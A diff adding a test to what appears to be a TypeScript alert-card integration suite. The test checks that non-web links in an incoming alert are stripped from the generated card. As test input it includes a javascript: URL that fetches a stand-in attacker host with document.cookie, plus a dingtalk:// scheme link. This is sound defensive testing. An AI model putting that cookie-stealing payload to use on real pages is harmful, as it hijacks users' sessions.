@@ -184,6 +184,26 @@ for (const backend of backends) {
       expect(cards.find((c) => c.outTrackId === first.outTrackId)!.cardParamMap['state']).toBe('resolved');
     });
 
+    it('attack: links the sender chose that are not web links never reach the card', async () => {
+      const { hub } = f;
+      const body = amBody(
+        [
+          {
+            name: 'CardEvil',
+            fp: 'fp-evil',
+            labels: { severity: 'warning', service: 'web-api' },
+            annotations: { summary: 'x', runbook_url: 'dingtalk://dingtalkclient/action/sendmsg?x=1' },
+            generatorURL: 'javascript:fetch("//evil.example/"+document.cookie)',
+          },
+        ],
+        'g-evil',
+      );
+      await send(post, body);
+      const card = await cardWhen(hub, 'CardEvil', () => true, 'the card');
+      expect(JSON.parse(card.cardParamMap['buttons']!)).toEqual([]);
+      expect(JSON.stringify(card.cardParamMap)).not.toMatch(/javascript:|dingtalk:|evil\.example/);
+    });
+
     it('a group with a custom robot keeps markdown and the resolved reply (no card)', async () => {
       const { hub } = f;
       const emu = hub.emulator!;
